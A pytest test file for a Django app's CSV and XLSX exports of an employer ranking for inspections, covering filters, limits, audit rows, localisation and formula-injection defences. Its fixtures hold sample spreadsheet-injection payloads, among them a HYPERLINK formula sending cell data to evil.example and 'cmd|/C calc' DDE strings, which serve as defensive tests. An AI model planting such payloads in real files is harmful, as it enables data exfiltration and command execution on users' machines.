"""CSV and XLSX exports: the page's rows and filters, formulas neutralised, a limit, an audit row."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext

from inspections.models import LegalForm, Region, Sector
from scoring.features.registry import reason_text
from scoring.models import Band, SizeClass
from tests.workspace.support import OFFENCE, SECTOR, inspect, publish_run
from workspace import exports
from workspace.filters import RankedListFilter
from workspace.models import ListExport
from workspace.worklists import WorklistRequest, worklist_create

LIST = reverse("workspace:ranked_list")


def export(client, format: str, query: dict | None = None, **headers):
    return client.get(reverse("workspace:ranked_list_export", args=[format]), query or {}, **headers)


def csv_rows(response, delimiter: str = ",") -> list[list[str]]:
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")  # the UTF-8 BOM, so that Excel reads UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=delimiter))


def xlsx_rows(response) -> list[list[object]]:
    book = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    return [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]


HEADER = [
    "Rank",
    "Band",
    "Percentile",
    "Score",
    "Enterprise number",
    "Name",
    "Sub-region",
    "Size",
    "Legal form",
    "Strongest reason",
    "Second reason",
    "Third reason",
    "Last inspection",
    "The list's offence found at the last inspection",
    "Scores as of",
    "Model version",
]


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_export_holds_the_filtered_rows_in_rank_order(ranked, logged_in, inspector, format) -> None:
    inspect(ranked.employer(2), dt.date(2026, 4, 1), found=True, offence=OFFENCE)
    query = {"region": "BE2", "band": ["1", "2", "3"], "size_class": ["2"]}
    expected = [s for s in ranked.scores if s.subregion_id in ("BE211", "BE241") and s.band <= 3 and s.size_class == 2]
    inspect(expected[-1].employer, dt.date(2026, 5, 1), found=True)  # undeclared work: not the list's offence

    response = export(logged_in, format, query)

    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="miningwatch-cleaning-bogus_self_employment-')
    assert disposition.endswith(f'.{format}"')
    rows = csv_rows(response) if format == "csv" else xlsx_rows(response)
    assert rows[0] == HEADER
    body = rows[1:]
    assert [int(row[0]) for row in body] == [s.rank for s in expected]
    assert [row[4] for row in body] == [s.employer.enterprise_number for s in expected]
    first = body[0]
    assert first[1] == "red" and first[5] == ranked.employer(2).name and first[6] == "Halle-Vilvoorde"
    assert first[7] == "10 to 49 workers" and first[8] == "Public limited company (NV/SA)"
    empty = "" if format == "csv" else None  # two reasons stored: no third
    assert first[9:12] == ["wage per FTE 38 % below the sector median", reason_text("part_time_share", 0.6), empty]
    run = ranked.run
    if format == "csv":
        assert first[12:] == ["2026-04-01", "yes", run.as_of.isoformat(), str(run.model_version_id)]
        assert body[1][12:14] == ["", ""]  # never inspected
        assert body[-1][12:14] == ["2026-05-01", "not checked"]
    else:
        assert first[12:] == [
            dt.datetime(2026, 4, 1),
            "yes",
            dt.datetime.combine(run.as_of, dt.time()),
            run.model_version_id,
        ]
        assert body[1][12:14] == [None, None]
        assert body[-1][12:14] == [dt.datetime(2026, 5, 1), "not checked"]

    # The page with the same filters shows the same rows, and one audit row was written.
    page = logged_in.get(LIST, query).context["page"]
    assert [s.rank for s in page.rows] == [int(row[0]) for row in body]
    record = ListExport.objects.get()
    assert (record.user, record.format, record.rows) == (inspector, format, len(expected))
    assert record.filters["region"] == ["BE2"] and record.filters["band"] == ["1", "2", "3"]
    assert record.filters["sector"] == ["cleaning"]  # the defaults the page used, too


def test_export_ignores_the_page_keys_and_holds_every_matching_row(ranked, logged_in) -> None:
    response = export(logged_in, "csv", {"after": "50", "page": "last"})
    assert [int(row[0]) for row in csv_rows(response)[1:]] == list(range(1, 121))
    assert "after" not in ListExport.objects.get().filters


def test_export_of_a_search(ranked, logged_in) -> None:
    number = ranked.employer(9).enterprise_number
    rows = csv_rows(export(logged_in, "csv", {"q": f"BE {number[:4]}.{number[4:7]}.{number[7:]}"}))
    assert [row[0] for row in rows[1:]] == ["9"]


DANGEROUS = {
    1: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    2: "+32 2 123 45 67",
    3: "-2+3+cmd|' /C calc'!A0",
    4: "@SUM(1+1)*cmd|' /C calc'!A0",
    5: "\tTabbed",
    6: "Plain & Simple BV",
}


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_cells_that_look_like_formulas_are_neutralised(logged_in, format) -> None:
    publish_run(6, names=DANGEROUS)
    response = export(logged_in, format)
    rows = (csv_rows(response) if format == "csv" else xlsx_rows(response))[1:]
    names = [row[5] for row in rows]
    assert names == ["'" + DANGEROUS[rank] for rank in range(1, 6)] + ["Plain & Simple BV"]
    if format == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        cells = [row[5] for row in book.worksheets[0].iter_rows(min_row=2)]
        assert all(cell.data_type == "s" for cell in cells)  # strings, no formula among them


def test_cell_safe_leaves_numbers_and_plain_text_alone() -> None:
    assert exports.cell_safe(-3) == -3
    assert exports.cell_safe(-0.5) == -0.5
    assert exports.cell_safe("Janssens") == "Janssens"
    assert exports.cell_safe("=1+1") == "'=1+1"
    assert exports.cell_safe("\r=1") == "'\r=1"


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_exports_past_the_limit_are_refused_and_not_recorded(ranked, logged_in, monkeypatch, format) -> None:
    monkeypatch.setattr(exports, "EXPORT_MAX_ROWS", 30)

    response = export(logged_in, format, {"region": "BE2"})  # 80 employers

    assert response.status_code == 302
    assert response["Location"].startswith(LIST) and "region=BE2" in response["Location"]
    page = logged_in.get(response["Location"])
    assert "80 employers match: an export holds at most 30. Narrow the filters" in page.content.decode()
    assert not ListExport.objects.exists()

    allowed = export(logged_in, format, {"region": "BE3", "band": ["4"]})  # 24 employers
    assert allowed.status_code == 200
    assert ListExport.objects.get().rows == 24


@pytest.mark.parametrize("query", [{"band": "9"}, {"sector": "xx"}, {"q": "x" * 101}, {"size_class": "abc"}])
def test_exports_with_bad_filters_are_refused_with_a_message(ranked, logged_in, query) -> None:
    response = export(logged_in, "csv", query)
    assert response.status_code == 302
    page = logged_in.get(response["Location"])
    assert "The filters are not valid; nothing was exported." in page.content.decode()
    assert not ListExport.objects.exists()


def test_export_without_scores_is_refused(logged_in) -> None:
    response = export(logged_in, "xlsx")
    assert response.status_code == 302
    assert "There are no scores for this sector and offence yet; nothing was exported." in (
        logged_in.get(response["Location"]).content.decode()
    )
    assert not ListExport.objects.exists()


@pytest.mark.parametrize("format", ["pdf", "csv.exe", "CSV", ""])
def test_unknown_export_formats_are_not_found(ranked, logged_in, format) -> None:
    url = reverse("workspace:ranked_list_export", args=["csv"]).replace(".csv", f".{format}")
    assert logged_in.get(url).status_code == 404
    assert not ListExport.objects.exists()


def test_the_list_links_to_the_exports_with_its_filters(ranked, logged_in) -> None:
    html = logged_in.get(LIST, {"region": "BE2", "band": ["1", "2"], "after": "3"}).content.decode()
    assert f'href="{reverse("workspace:ranked_list_export", args=["csv"])}?region=BE2&amp;band=1&amp;band=2"' in html
    assert f'href="{reverse("workspace:ranked_list_export", args=["xlsx"])}?region=BE2&amp;band=1&amp;band=2"' in html


@pytest.mark.parametrize("format", ["csv", "xlsx"])
@pytest.mark.parametrize("raw", ["q=%25", "q=_", "q=-", "q=%26", "q=%27", "q=%5C", "q=...", "q=%ff%fe"])
def test_exports_of_a_search_without_a_letter_or_digit_are_refused(ranked, logged_in, format, raw) -> None:
    url = reverse("workspace:ranked_list_export", args=[format])
    response = logged_in.get(f"{url}?{raw}")
    assert response.status_code == 302
    assert "The filters are not valid; nothing was exported." in logged_in.get(response["Location"]).content.decode()
    assert not ListExport.objects.exists()


# Every start OWASP lists as making a spreadsheet read a cell as a formula.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n"]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_cell_safe_neutralises_every_formula_start(start) -> None:
    assert exports.cell_safe(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_a_name_that_starts_with_a_line_feed_is_neutralised(logged_in, format) -> None:
    publish_run(2, names={1: '\n=HYPERLINK("http://evil.example/?"&A1,"Click")'})
    response = export(logged_in, format)
    names = [row[5] for row in (csv_rows(response) if format == "csv" else xlsx_rows(response))[1:]]
    assert names[0] == '\'\n=HYPERLINK("http://evil.example/?"&A1,"Click")'


# Control characters PostgreSQL keeps in a name (an import, the admin) but XML cannot carry.
CONTROLS = {1: "Vertical\x0btab BV", 2: "\x0b=1+1", 3: "\x01\x02@SUM(1)", 4: "Form\x0cfeed\x1f NV"}


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_control_characters_in_names_are_dropped_before_the_formula_check(logged_in, format) -> None:
    publish_run(4, names=CONTROLS)
    response = export(logged_in, format)
    assert response.status_code == 200
    names = [row[5] for row in (csv_rows(response) if format == "csv" else xlsx_rows(response))[1:]]
    # Dropped first, so that "\x0b=1+1" cannot become "=1+1" once a spreadsheet drops it.
    assert names == ["Verticaltab BV", "'=1+1", "'@SUM(1)", "Formfeed NV"]


def test_an_export_records_the_filters_and_nothing_else_of_the_query_string(ranked, logged_in) -> None:
    response = export(logged_in, "csv", {"region": "BE2", "search": "x", "utm_source": "<x>"})
    assert response.status_code == 200
    expected = {"sector": ["cleaning"], "offence": ["bogus_self_employment"], "region": ["BE2"]}
    assert ListExport.objects.get().filters == expected


# --- Each language's spreadsheets, the XLSX's formatting and its About sheet ----------------

BANDS_BE2 = {"region": "BE2", "band": ["1", "2"]}


def _expected(ranked, query: dict) -> list:
    bands = {int(band) for band in query.get("band", ["1", "2", "3", "4"])}
    return [s for s in ranked.scores if s.subregion_id in ("BE211", "BE241") and s.band in bands]


@pytest.mark.parametrize(("language", "separator", "decimal"), [("en", ",", "."), ("nl", ";", ","), ("fr", ";", ",")])
def test_csv_uses_the_separator_and_decimal_mark_of_the_language(ranked, logged_in, language, separator, decimal):
    inspect(ranked.employer(1), dt.date(2026, 4, 1), found=False, offence=OFFENCE)
    response = export(logged_in, "csv", BANDS_BE2, HTTP_ACCEPT_LANGUAGE=language)

    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=separator))
    expected = _expected(ranked, BANDS_BE2)
    # One plain table: the header on the first line, every row as wide as it, nothing else.
    assert len(rows) == len(expected) + 1 and {len(row) for row in rows} == {len(HEADER)}
    assert text.splitlines()[0].count(separator) == len(HEADER) - 1
    first, score = rows[1], expected[0]
    assert first[0] == "1" and first[4] == score.employer.enterprise_number  # a code stays text
    assert first[2] == f"{score.percentile:.1f}".replace(".", decimal)
    assert first[3] == f"{score.score:.4f}".replace(".", decimal)
    # Dates as ISO 8601, which spreadsheets read as dates in every language.
    assert first[12] == "2026-04-01" and first[14] == ranked.run.as_of.isoformat()
    assert first[15] == str(ranked.run.model_version_id)
    with translation.override(language):
        assert first[9:11] == [reason_text("wage_per_fte_vs_sector", -0.38), reason_text("part_time_share", 0.6)]
        assert first[8] == str(LegalForm.BV.label) and first[13] == gettext("no")


def test_csv_headers_are_in_the_language(ranked, logged_in) -> None:
    """Headers already in the catalogue; the columns this export added come in English until
    their translations are merged (translations.json)."""
    dutch, french = (
        csv_rows(export(logged_in, "csv", HTTP_ACCEPT_LANGUAGE=language), delimiter=";") for language in ("nl", "fr")
    )
    assert dutch[0][:3] == ["Rang", "Kleur", "Percentiel"] and dutch[0][9] == "Belangrijkste reden"
    assert french[0][:3] == ["Rang", "Couleur", "Centile"] and french[0][9] == "Raison principale"
    assert dutch[1][1] == "rood" and french[1][1] == "rouge"


def test_csv_file_name_says_which_filters_made_it(ranked, logged_in) -> None:
    query = {"region": "BE2", "band": ["2", "1", "2"], "size_class": "2", "legal_form": "NV", "not_inspected": "12"}
    query["q"] = "employer"  # named as a search, its text never in a file name
    disposition = export(logged_in, "csv", query)["Content-Disposition"]
    assert re.fullmatch(
        r'attachment; filename="miningwatch-cleaning-bogus_self_employment-region-BE2-band-1\.2-size-2-form-NV'
        r'-not-inspected-12-search-\d{8}-\d{4}\.csv"',
        disposition,
    )


def _book(response) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(response.content))  # not read-only: styles, panes and filters


@pytest.mark.parametrize("language", ["en", "nl", "fr"])
def test_xlsx_has_a_frozen_header_a_filter_real_dates_and_numbers(ranked, logged_in, language) -> None:
    inspect(ranked.employer(1), dt.date(2026, 4, 1), found=True, offence=OFFENCE)
    response = export(logged_in, "xlsx", BANDS_BE2, HTTP_ACCEPT_LANGUAGE=language)

    sheet = _book(response).worksheets[0]
    n = len(_expected(ranked, BANDS_BE2))
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:P{n + 1}"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.column_dimensions["F"].width >= 30 and sheet.column_dimensions["A"].width < 15  # name, rank
    row = sheet[2]
    visit, as_of = row[12], row[14]
    assert visit.is_date and visit.value == dt.datetime(2026, 4, 1) and visit.number_format == "dd/mm/yyyy"
    assert as_of.is_date and as_of.value.date() == ranked.run.as_of
    assert (row[2].data_type, row[2].number_format) == ("n", "0.0")
    assert (row[3].data_type, row[3].number_format) == ("n", "0.0000")
    assert row[0].value == 1 and row[15].value == ranked.run.model_version_id
    assert row[4].data_type == "s"  # the enterprise number stays text, its leading zero kept
    with translation.override(language):
        assert row[8].value == str(LegalForm.BV.label)
        assert row[1].value == str(Band.RED.label) and row[13].value == gettext("yes")


def _about(book: openpyxl.Workbook) -> dict[str, openpyxl.cell.Cell]:
    """The About sheet's second cells by their labels, the first of each: the scores and the
    filters come before the columns, and some columns share a label with them."""
    found: dict[str, openpyxl.cell.Cell] = {}
    for row in book.worksheets[1].iter_rows(min_row=2):
        if row[0].value and len(row) > 1:
            found.setdefault(row[0].value, row[1])
    return found


BAND_COLOURS = {1: ("B71C1C", "FDE8E8"), 2: ("9A4F00", "FFF1E0"), 3: ("256B29", "E8F5E9"), 4: ("1F5FAE", "E6EFFA")}


def test_xlsx_band_cells_have_the_band_colours(ranked, logged_in) -> None:
    sheet = _book(export(logged_in, "xlsx")).worksheets[0]
    seen = {}
    for rank_cell, band_cell in ((row[0], row[1]) for row in sheet.iter_rows(min_row=2)):
        band = ranked.by_rank(rank_cell.value).band
        seen[band] = (band_cell.font.color.rgb[-6:], band_cell.fill.fgColor.rgb[-6:])
        assert band_cell.value == str(Band(band).label)
    assert seen == BAND_COLOURS


@pytest.mark.parametrize("language", ["en", "nl", "fr"])
def test_xlsx_about_sheet_says_what_the_scores_and_filters_were(ranked, logged_in, language) -> None:
    query = {**BANDS_BE2, "size_class": ["2"], "legal_form": "NV", "q": "=employer"}
    book = _book(export(logged_in, "xlsx", query, HTTP_ACCEPT_LANGUAGE=language))

    assert len(book.worksheets) == 2
    about, run = _about(book), ranked.run
    with translation.override(language):
        assert about[gettext("Scores as of")].is_date and about[gettext("Scores as of")].value.date() == run.as_of
        assert about[gettext("Model version")].value == run.model_version_id
        assert about[gettext("Employers")].value == 1  # rank 2: Halle-Vilvoorde, red, 10 to 49, NV
        words = {name: about[_label(name)].value for name in query if _label(name) in about}
        assert words == {
            "region": str(Region.objects.get(code="BE2")),
            "band": f"{Band.RED.label}, {Band.ORANGE.label}",
            "size_class": str(SizeClass.SMALL.label),
            "legal_form": str(LegalForm.NV.label),
            "q": "'=employer",  # as typed, made safe
        }
        assert about[_label("sector")].value == str(Sector.objects.get(code="cleaning"))
        assert _label("not_inspected") not in about  # a filter not used is not listed
        # Every column is explained, under its header.
        assert all(about[header].value for header in exports._header())


def _label(name: str) -> str:
    return str(RankedListFilter.base_filters[name].label)


def test_xlsx_about_sheet_in_dutch_uses_the_catalogue(ranked, logged_in) -> None:
    about = _book(export(logged_in, "xlsx", {"region": "BE3"}, HTTP_ACCEPT_LANGUAGE="nl"))
    pairs = {label: cell.value for label, cell in _about(about).items()}
    assert pairs["Gewest"] == str(Region.objects.get(code="BE3")) and "Soort inbreuk" in pairs


# --- Scope, blinding and the number of queries still hold --------------------------------


def _numbers(response, format: str) -> list[str]:
    rows = csv_rows(response, delimiter=";") if format == "csv" else xlsx_rows(response)  # French
    return [row[4] for row in rows[1:]]


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_an_export_holds_the_users_regions_only(ranked, client, walloon_inspector, format) -> None:
    client.force_login(walloon_inspector)
    numbers = _numbers(export(client, format, HTTP_ACCEPT_LANGUAGE="fr"), format)
    assert numbers == [s.employer.enterprise_number for s in ranked.scores if s.subregion_id == "BE332"]


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_an_export_leaves_out_the_users_open_worklist_employers(ranked, logged_in, inspector, format) -> None:
    worklist = worklist_create(user=inspector, request=WorklistRequest(SECTOR, OFFENCE, 10), seed=7)
    hidden = set(worklist.entries.values_list("employer__enterprise_number", flat=True))

    response = export(logged_in, format, HTTP_ACCEPT_LANGUAGE="nl")

    rows = (csv_rows(response, delimiter=";") if format == "csv" else xlsx_rows(response))[1:]
    assert len(rows) == 110 and not {row[4] for row in rows} & hidden
    assert [int(row[0]) for row in rows] == list(range(1, 111))  # the ranks close up over them
    assert ListExport.objects.get().rows == 110


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_an_export_reads_no_more_for_more_employers(ranked, logged_in, format) -> None:
    for rank in (1, 2, 5, 40, 90):
        inspect(ranked.employer(rank), dt.date(2026, 4, 1), found=rank % 2 == 0)
    export(logged_in, format)  # the session and the reference rows read once
    queries = []
    for bands in (["1"], ["1", "2", "3", "4"]):  # 6 employers, then 120
        with CaptureQueriesContext(connection) as captured:
            assert export(logged_in, format, {"band": bands}).status_code == 200
        queries.append(len(captured))
    # As many as before the reasons, dates, versions and the About sheet: the session and
    # user, the default sector and offence, the open worklist employers, the published run,
    # the band filter's ranks, the count, the rows, their last inspections, the record.
    assert queries == [12, 12]
